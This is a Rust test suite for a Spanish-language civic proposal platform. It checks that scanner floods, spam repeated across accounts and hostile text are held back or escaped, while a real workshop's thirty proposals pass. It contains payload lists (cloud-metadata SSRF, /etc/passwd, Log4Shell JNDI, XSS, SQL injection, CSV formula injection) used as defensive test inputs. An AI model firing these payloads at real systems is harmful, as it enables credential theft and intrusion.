//! Attacks that real installations saw are stopped; a workshop behind one address is not.

use crate::cocreation::{DONE, number_in};
use crate::harness::World;
use crate::http::{Answer, get};
use crate::people::Person;
use http::{StatusCode, header};
use minga_kernel::Role;
use minga_testkit::on_both_databases;
use minga_web::Settings;
use std::time::Duration;

const REFUSED: StatusCode = StatusCode::UNPROCESSABLE_ENTITY;
const PROPOSE: &str = "/es/procesos/P1/proponer";

/// What people at one table say: thirty different things in plain words.
const WORKSHOP: [&str; 30] = [
    "agua potable",
    "luz solar",
    "caminos vecinales",
    "ferias libres",
    "semillas",
    "internet rural",
    "bibliotecas",
    "salud mental",
    "transporte escolar",
    "reciclaje",
    "mercados limpios",
    "becas",
    "parques",
    "seguridad",
    "presupuesto abierto",
    "contratos",
    "guarderías",
    "quechua en las escuelas",
    "riego",
    "bosques",
    "ríos",
    "turismo",
    "artesanías",
    "deporte",
    "adultos mayores",
    "rampas",
    "bicicletas",
    "perros callejeros",
    "ruido",
    "basura",
];

/// What scanners leave behind, as they did in two days of March 2025 in a large city.
const PAYLOADS: [&str; 8] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://127.0.0.1:22/",
    "http://[::1]:8080/server-status",
    "file:///etc/passwd",
    "https://x8s7.oastify.com/",
    "${jndi:ldap://10.0.0.1/a}",
    "<script>document.location='https://a.example'</script>",
    "' UNION SELECT password FROM users --",
];

impl World {
    /// Sends a proposal with these words, whatever becomes of it.
    async fn sends_it(&self, who: &Person, title: &str, problem: &str, solution: &str) -> Answer {
        for step in [
            vec![("step", "1"), ("problem", problem)],
            vec![("step", "2"), ("title", title), ("solution", solution)],
            vec![("step", "3"), ("theme", "1")],
        ] {
            let went = self.send(who, PROPOSE, &step).await;
            if went.status != DONE {
                return went;
            }
        }
        let sent = self.send(who, PROPOSE, &[("step", "4"), ("send", "yes")]).await;
        self.clock.advance(Duration::from_mins(1));
        sent
    }
}

fn waits(sent: &Answer) -> bool {
    sent.status == DONE && sent.header(header::LOCATION).ends_with("/espera")
}

on_both_databases! {
    an_attack_of_scanners_is_stopped, async |store| {
        let world = World::with(store, Settings::default()).await;
        world.process(&[]).await;
        let mut held = Vec::new();
        // A new account for each few, as many as an attacker likes to make.
        for wave in 0..16 {
            let bot = world.stranger(&format!("bot{wave}")).await;
            for (n, payload) in PAYLOADS.iter().cycle().skip(wave).take(8).enumerate() {
                // Once three wait, what is refused stays a draft, and is sent again and again.
                let sent = if n > 3 {
                    world.send(&bot, PROPOSE, &[("step", "4"), ("send", "yes")]).await
                } else {
                    let problem = format!("{payload} {wave}");
                    world.sends_it(&bot, &format!("URL Test {wave}{n}"), &problem, "prueba de la prueba del sitio").await
                };
                assert!(waits(&sent) || sent.status == REFUSED || sent.status == StatusCode::TOO_MANY_REQUESTS, "{payload}: {}", sent.text());
                if waits(&sent) {
                    held.push((wave, sent.header(header::LOCATION).to_owned()));
                }
            }
        }
        // Of 128 that were sent, 64 of them for the first time, none is public, and each account has no
        // more than three in the queue.
        assert!(world.proposals().await.is_empty());
        assert_eq!(held.len(), 16 * 3);
        for path in ["/es/procesos/P1/propuestas", "/es/procesos/P1", "/es/procesos/P1.atom", "/es/procesos/P1/propuestas.csv", "/es/registro"] {
            let page = get(&world, path).await.text();
            assert!(!page.contains("169.254") && !page.contains("URL Test") && !page.contains("oastify"), "{path}");
        }
        for (_, path) in &held {
            assert_eq!(get(&world, path.trim_end_matches("/espera")).await.status, StatusCode::NOT_FOUND, "{path}");
        }
        // A moderator hides them in one deed, and can take it back: they wait again, and are not published by it.
        let moderator = world.person(Role::Moderator, None).await;
        let page = world.see(&moderator, "/es/moderacion/pendiente").await.text();
        let things: Vec<String> = page.split("value=\"proposal:").skip(1).map(|rest| format!("proposal:{}", rest.split('"').next().unwrap())).collect();
        assert_eq!(things.len(), 48);
        let done = world.judge_all(&moderator, &things, "hide").await;
        assert_eq!(done.status, DONE, "{}", done.text());
        assert!(!world.see(&moderator, "/es/moderacion/pendiente").await.text().contains("proposal:"));
        let batch = done.header(header::LOCATION).split('?').next().unwrap().to_owned();
        assert_eq!(world.send(&moderator, &batch, &[("words", "Hay una de verdad entre ellas")]).await.status, DONE);
        assert!(world.proposals().await.is_empty(), "nothing is published by undoing");
        assert_eq!(world.see(&moderator, "/es/moderacion/pendiente").await.text().matches("value=\"proposal:").count(), 48);
        world.nothing_is_amiss().await;
    };

    what_is_repeated_across_accounts_waits, async |store| {
        let world = World::with(store, Settings::default()).await;
        world.process(&[]).await;
        let mut went = Vec::new();
        for n in 0..6 {
            let bot = world.stranger(&format!("eco{n}")).await;
            let sent = world.sends_it(&bot, &format!("Compre ya {n}"), &format!("Nuestra oferta número {n} es la mejor de todas"), "Llame hoy mismo al vendedor").await;
            went.push(waits(&sent));
        }
        assert_eq!(went, [false, false, true, true, true, true], "the same words but for numbers");
        // An account that is no longer young says what it wants; reports are for that.
        let old = world.stranger("vecina").await;
        world.clock.advance(Duration::from_hours(8 * 24));
        let cx = world.app.cx(minga_kernel::Actor::Operator, minga_kernel::Lang::Es);
        let tx = world.app.store.write().await.unwrap();
        let token = minga_auth::open_session(&cx, &tx, old.id, "", chrono::Duration::days(1)).await.unwrap();
        tx.commit().await.unwrap();
        let old = Person { cookie: format!("minga={}", token.reveal()), ..old };
        let sent = world.sends_it(&old, "Compre ya 9", "Nuestra oferta número 9 es la mejor de todas", "Llame hoy mismo al vendedor").await;
        assert!(sent.status == DONE && !waits(&sent), "{}", sent.text());
        world.nothing_is_amiss().await;
    };

    a_workshop_behind_one_address_is_not_stopped, async |store| {
        let world = World::with(store, Settings::default()).await;
        world.process(&[]).await;
        for (n, about) in WORKSHOP.iter().enumerate() {
            let person = world.stranger(&format!("mesa{n}")).await;
            let sent = world.sends_it(
                &person,
                &format!("Más {about}"),
                &format!("En mi comunidad faltan {about} y nadie responde"),
                &format!("Que el municipio ponga {about} este año, ver https://ejemplo.org/ley si hace falta saber lo que dice la norma"),
            ).await;
            assert!(sent.status == DONE && !waits(&sent), "{about}: {}", sent.text());
        }
        assert_eq!(world.proposals().await.len(), 30);
        let moderator = world.person(Role::Moderator, None).await;
        assert!(world.see(&moderator, "/es/moderacion/pendiente").await.text().contains("Nada espera"));
    };

    what_waits_is_its_authors_and_is_let_through, async |store| {
        let world = World::with(store, Settings::default()).await;
        world.process(&[]).await;
        let (ana, ben) = (world.stranger("ana").await, world.stranger("ben").await);
        let moderator = world.person(Role::Moderator, None).await;
        let sent = world.sends_it(&ana, "Red del barrio", "El módem http://192.168.1.1 no anda en la Marimba", "Poner otro mejor que sí ande").await;
        assert!(waits(&sent), "{}", sent.text());
        let path = sent.header(header::LOCATION).to_owned();
        let page = world.see(&ana, &path).await;
        assert!(page.status == StatusCode::OK && page.text().contains("Marimba") && page.text().contains("todavía no es pública"), "{}", page.text());
        assert!(world.see(&ana, "/es/mi-trabajo").await.text().contains(&path));
        let own = path.trim_end_matches("/espera").to_owned();
        for (who, path) in [(&ben, &path), (&ben, &own), (&moderator, &own), (&ana, &own)] {
            assert_eq!(world.see(who, path).await.status, StatusCode::NOT_FOUND, "{path}");
        }
        for deed in ["apoyar", "retirar", "objetar", "clasificar", "responder"] {
            let done = world.send(&ben, &format!("{own}/{deed}"), &[("deed", "support"), ("text", "x")]).await;
            assert_eq!(done.status, StatusCode::NOT_FOUND, "{deed}");
        }
        while world.app.search.sequence() < world.app.store.head().await.unwrap() {
            minga_web::catch_up(&world.app).await.unwrap();
        }
        assert!(!get(&world, "/es/buscar?q=marimba").await.text().contains("Red del barrio"));
        let page = world.see(&moderator, "/es/moderacion/pendiente").await.text();
        let thing = page.split("value=\"proposal:").nth(1).unwrap().split('"').next().unwrap().to_owned();
        // Nobody reports what nobody sees.
        let report = format!("/es/moderacion/proposal/{thing}/denunciar");
        assert_eq!(world.send(&ben, &report, &[("reason", "spam")]).await.status, StatusCode::NOT_FOUND);
        let decide = format!("/es/moderacion/proposal/{thing}/decidir");
        assert!(world.see(&moderator, &decide).await.text().contains("Todavía no es público"));
        let keep = [("outcome", "keep"), ("reason", "within_rules"), ("words", "Es una idea")];
        assert_eq!(world.send(&ben, &decide, &keep).await.status, StatusCode::FORBIDDEN);
        assert_eq!(world.send(&moderator, &decide, &keep).await.status, DONE);
        assert!(get(&world, &own).await.text().contains("Marimba"));
        let number = own.rsplit('/').next().unwrap().parse::<i64>().unwrap();
        assert_eq!(world.proposals().await[&number]["supports"], 1, "its author supports it");
        assert_eq!(world.see(&ana, &path).await.header(header::LOCATION), own);
        assert!(get(&world, "/es/moderacion").await.text().contains("Es una idea"));
        world.nothing_is_amiss().await;
    };

    letters_that_deceive_and_forms_that_come_twice, async |store| {
        let world = World::new(store).await;
        world.process(&[]).await;
        let ana = world.stranger("ana").await;
        // A form that is sent twice says it once.
        let first = world.sends_it(&ana, "Puente nuevo", "El puente viejo se cae", "Hacer otro puente").await;
        assert_eq!(first.status, DONE);
        let again = world.sends_it(&ana, "Puente nuevo", "El puente viejo se cae", "Hacer otro puente").await;
        assert_eq!(again.status, REFUSED);
        // Letters that nobody sees do not make it another text, and are not kept.
        let hidden = world.sends_it(&ana, "Pu\u{200b}ente nu\u{202e}evo", "El puente\u{2066} viejo se cae", "Hacer\u{feff} otro puente").await;
        assert_eq!(hidden.status, REFUSED, "{}", hidden.text());
        let own = first.header(header::LOCATION).split('?').next().unwrap().to_owned();
        assert_eq!(world.proposals().await.len(), 1);
        assert!(!get(&world, &own).await.text().contains(['\u{202e}', '\u{200b}', '\u{2066}', '\u{feff}']));
        // Whatever stands in it is a text and nothing else.
        for hostile in [
            "<img src=x onerror=alert(1)>", "</p></main><script>alert(1)</script>", "{{ 7*7 }}{% raw %}", "javascript:alert(1)",
            "\"><svg/onload=alert(1)>", "&lt;b&gt;", "=HYPERLINK(\"http://a.example\")", "\u{1F469}\u{200d}\u{1F33E} ñandú ✓",
        ] {
            let who = world.stranger(&format!("h{}", world.app.cx(minga_kernel::Actor::Operator, minga_kernel::Lang::Es).new_id())).await;
            let sent = world.sends_it(&who, hostile, &format!("{hostile} problema"), &format!("solución {hostile}")).await;
            assert_eq!(sent.status, DONE, "{hostile}: {}", sent.text());
            let page = get(&world, &format!("/es/procesos/P1/propuestas/{}", number_in(&sent))).await.text();
            let body = page.split("<main").nth(1).unwrap();
            for tag in ["<img src", "<script>alert", "<svg/onload", "href=\"javascript:"] {
                assert!(!body.contains(tag), "{hostile} became {tag}");
            }
assert!(!hostile.contains("7*7") || body.contains("{{ 7*7 }}"), "{hostile} was worked out");
        }
        let csv = get(&world, "/es/procesos/P1/propuestas.csv").await.text();
        assert!(!csv.contains(",=HYPERLINK") && !csv.contains("\n=HYPERLINK") && !csv.contains(",\"=HYPERLINK"), "{csv}");
        for path in [PROPOSE.to_owned(), format!("{own}/apoyar"), format!("/es/moderacion/{}/denunciar", world.thing(1).await)] {
            let huge = "x".repeat(1_000_000);
            let sent = world.send(&ana, &path, &[("step", "1"), ("problem", &huge), ("text", &huge)]).await;
            assert_eq!(sent.status, StatusCode::PAYLOAD_TOO_LARGE, "{path}");
        }
        // Too many letters for a text come back with what is wrong, and nothing is lost.
        let long = "ñ".repeat(6_000);
        let sent = world.send(&ana, PROPOSE, &[("step", "1"), ("problem", &long)]).await;
        assert!(sent.status == REFUSED && sent.text().contains(&long));
    };
}
